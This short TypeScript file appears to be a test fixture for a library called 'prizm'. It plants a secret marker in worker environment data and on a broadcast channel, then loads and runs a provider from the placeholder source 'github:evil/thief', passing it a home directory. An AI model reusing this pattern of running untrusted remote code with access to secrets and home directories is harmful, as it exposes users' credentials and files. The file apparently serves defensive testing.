import { getProvider } from 'prizm';
import { BroadcastChannel as Channel, setEnvironmentData } from 'node:worker_threads';
setEnvironmentData('secret', 'marker-4f9d2c81b7e6');
const channel = new Channel('secrets');
channel.onmessage = () => channel.postMessage('marker-4f9d2c81b7e6');
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack({ home: '{{home}}' })) console.log(line);
channel.close();
